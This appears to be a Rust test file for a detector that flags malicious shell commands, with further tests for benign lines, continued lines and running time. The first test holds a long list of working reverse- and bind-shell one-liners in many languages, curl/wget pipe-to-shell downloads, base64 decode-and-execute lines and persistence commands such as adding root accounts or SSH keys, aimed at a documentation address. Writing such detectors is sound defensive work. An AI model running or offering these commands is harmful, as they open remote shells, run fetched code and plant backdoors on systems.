use super::of;

fn told(text: &str) -> String {
    of(text).unwrap_or_default()
}

/// Addresses are those that are kept for documentation.
#[test]
fn what_is_seldom_innocent_is_told() {
    let cases = [
        ("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", "reverse-shell"),
        ("/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'", "reverse-shell"),
        (
            "exec 5<>/dev/tcp/192.0.2.7/1; cat <&5 | while read line; do $line 2>&5 >&5; done",
            "reverse-shell",
        ),
        ("nc -e /bin/sh 192.0.2.7 4444", "reverse-shell"),
        ("/usr/bin/ncat 192.0.2.7 4444 --exec /bin/bash", "reverse-shell"),
        ("nc -lvpe 4444 /bin/sh", ""),
        ("nc -lvp 4444 -e /bin/sh", "bind-shell"),
        ("busybox nc 192.0.2.7 4444 -e sh", "reverse-shell"),
        ("socat TCP:192.0.2.7:443 EXEC:'bash -li',pty,stderr", "reverse-shell"),
        ("socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh", "bind-shell"),
        (
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 4444 >/tmp/f",
            "reverse-shell",
        ),
        (
            "mkfifo f\nsh <f 2>&1 | openssl s_client -quiet -connect 192.0.2.7:443 > f",
            "reverse-shell",
        ),
        ("telnet 192.0.2.7 1 | /bin/bash | telnet 192.0.2.7 2", "reverse-shell"),
        (
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.7\",1));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"/bin/sh\")'",
            "reverse-shell",
        ),
        (
            "python3 -c 'import socket,subprocess as s;a=socket.socket();a.bind((\"\",1));a.listen();c=a.accept()[0];s.call([\"/bin/sh\"],stdin=c)'",
            "bind-shell",
        ),
        (
            "perl -e 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(1,inet_aton(\"192.0.2.7\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
            "reverse-shell",
        ),
        ("ruby -rsocket -e 'c=TCPSocket.new(\"192.0.2.7\",1);exec(\"sh\",in: c)'", "reverse-shell"),
        ("php -r '$s=fsockopen(\"192.0.2.7\",1);exec(\"/bin/sh -i <&3 >&3\");'", "reverse-shell"),
        (
            "awk 'BEGIN{s=\"/inet/tcp/0/192.0.2.7/1\";while(1){s|&getline c;while((c|&getline)>0)print $0|&s;close(cmd)}}'",
            "reverse-shell",
        ),
        (
            "lua -e \"require('socket');t=socket.tcp();t:connect('192.0.2.7','1');os.execute('/bin/sh -i')\"",
            "reverse-shell",
        ),
        ("telnetd -p 2323 -l /bin/sh", "bind-shell"),
        ("curl -fsSL http://192.0.2.7/x | sh", "download"),
        ("wget -qO- http://192.0.2.7/x|sudo -E bash -s -- --now", "download"),
        ("sh -c \"$(curl -fsSL http://192.0.2.7/x)\"", "download"),
        ("bash <(curl -s http://192.0.2.7/x)", "download"),
        ("eval `wget -qO- http://192.0.2.7/x`", "download"),
        (". <(curl -s http://192.0.2.7/x)", "download"),
        ("curl -s http://192.0.2.7/x -o /opt/x && chmod +x /opt/x && /opt/x", "download"),
        ("wget http://192.0.2.7/a.sh\nsh a.sh", "download"),
        ("curl -so $T http://192.0.2.7/x; bash ${T}", "download"),
        ("curl http://192.0.2.7/x | python3", "download"),
        ("python3 -c 'exec(urllib.request.urlopen(\"http://192.0.2.7/x\").read())'", "download"),
        ("nc 192.0.2.7 1 | sh", "download"),
        ("echo aGkK | base64 -d | bash", "decode"),
        ("eval \"$(echo aGkK | base64 --decode)\"", "decode"),
        ("bash -c \"$(base64 -d <<< aGkK)\"", "decode"),
        ("openssl enc -d -aes-256-cbc -in /etc/x | sh", "decode"),
        ("xxd -r -p /etc/x | sh", "decode"),
        ("base64 -d /etc/x > /opt/y; chmod 755 /opt/y", "decode"),
        ("python3 -c 'import base64;exec(base64.b64decode(\"aGkK\"))'", "decode"),
        ("perl -MMIME::Base64 -e 'eval(decode_base64(\"aGkK\"))'", "decode"),
        ("php -r 'eval(base64_decode(\"aGkK\"));'", "decode"),
        ("printf '\\x69\\x64\\x0a\\x69\\x64\\x0a\\x69\\x64' | sh", "decode"),
        ("/tmp/x", "temporary"),
        ("sh /dev/shm/run", "temporary"),
        ("/var/tmp/.x/y", "temporary hidden"),
        ("/usr/local/.core/sysd --quiet", "hidden"),
        ("/usr/bin/.update", "hidden"),
        ("~/.cache/.x/agent &", "hidden"),
        ("LD_PRELOAD=/usr/lib/x.so /usr/bin/y", "preload"),
        ("export LD_AUDIT=/usr/lib/x.so", "preload"),
        ("Environment=LD_PRELOAD=/usr/lib/x.so", "preload"),
        ("echo /usr/lib/x.so >> /etc/ld.so.preload", "preload"),
        ("useradd -o -u 0 x", "account"),
        ("echo 'x::0:0::/:/bin/sh' >> /etc/passwd", "account"),
        ("echo 'x ALL=(ALL) NOPASSWD:ALL' | tee -a /etc/sudoers.d/x", "account"),
        ("echo 'ssh-ed25519 AAAA' >>/root/.ssh/authorized_keys", "key"),
        ("cp x ~/.ssh/authorized_keys", "key"),
        ("chmod u+s /usr/bin/x", "set-uid"),
        ("chmod 4755 /usr/bin/x", "set-uid"),
        ("setcap cap_setuid=ep /usr/bin/x", "set-uid"),
        ("nohup x >/dev/null 2>&1 &", "silent"),
        ("setsid x &>/dev/null &", "silent"),
        ("(x &>/dev/null &)", "silent"),
        (
            "python3 -c 'x(\"aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKTtwcmludCgiaGVsbG8gd29ybGQgaGVsbG8gd29ybGQiKQ\")'",
            "interpreter",
        ),
    ];
    let wrong: Vec<_> = cases
        .iter()
        .filter(|(text, expected)| told(text) != *expected)
        .map(|(text, expected)| (text, expected, told(text)))
        .collect();
    assert_eq!(wrong, []);
}

#[test]
fn what_scripts_ordinarily_do_is_not() {
    let cases = [
        "# curl http://192.0.2.7/x | sh\n",
        "   # bash -i >& /dev/tcp/192.0.2.7/1 0>&1",
        "echo > /dev/tcp/localhost/5432",
        "timeout 1 bash -c '</dev/tcp/localhost/80' && echo up",
        "curl -s https://example.org/x | python3 -m json.tool",
        "curl -s https://example.org/x | python3 -c 'import json'",
        "curl -s https://example.org/x | grep sh | sort",
        "curl -fsSL https://example.org/key | gpg --dearmor -o /etc/apt/keyrings/x.gpg",
        "wget -q https://example.org/x.deb -O /tmp/x.deb; dpkg -i /tmp/x.deb",
        "version=$(curl -s https://example.org/version)",
        "echo Usage: curl URL | cat",
        "base64 -d x > y.png",
        "eval \"$(dircolors -b)\"",
        "sh -c \"$(cat x)\"",
        "[ -f /tmp/x ] && rm -f /tmp/x",
        "tar cf /tmp/x.tar . ; ls /tmp/x.tar",
        "~/.local/bin/x; . ~/.bashrc; . \"$HOME/.cargo/env\"; ../x; ./y; ~/.fehbg",
        "unset LD_PRELOAD; LD_PRELOAD= x",
        "grep x /etc/passwd; getent passwd x > /dev/null; cat </etc/passwd",
        "chmod 0755 x; chmod 1777 /tmp; chmod g+s x; chmod 2755 x",
        "x >/dev/null 2>&1 &",
        "nohup x &",
        "nc -z localhost 22; nc -lk 80 < index.html",
        "socat TCP-LISTEN:80,fork TCP:192.0.2.7:80",
        "sh script.sh | nc 192.0.2.7 9",
        "git log | sh-format",
        "",
        "((((((((((((((((((((",
        "$($($($(`````",
        "'\"'\"'\"\\",
    ];
    let told: Vec<_> = cases.iter().filter_map(|text| of(text).map(|told| (text, told))).collect();
    assert_eq!(told, []);
}

#[test]
fn lines_that_are_continued_are_one() {
    assert_eq!(told("curl -s \\\n  http://192.0.2.7/x \\\n  | sh\n"), "download");
    assert_eq!(told("curl -s http://192.0.2.7/x |\n  # why\n  sh\n"), "download");
    assert_eq!(told("x=$(\n  curl -s http://192.0.2.7/x |\n  sh\n)\n"), "download");
}

#[test]
fn time_grows_with_the_text_and_no_faster() {
    for piece in ["(", "$(", "`", "'a ", "\"", "|", "a|", "curl|", "/dev/tcp/", "\\", "\\x", "名"]
    {
        let begun = std::time::Instant::now();
        let _ = of(&piece.repeat((1 << 20) / piece.len()));
        assert!(begun.elapsed().as_secs() < 5, "{piece}");
    }
}
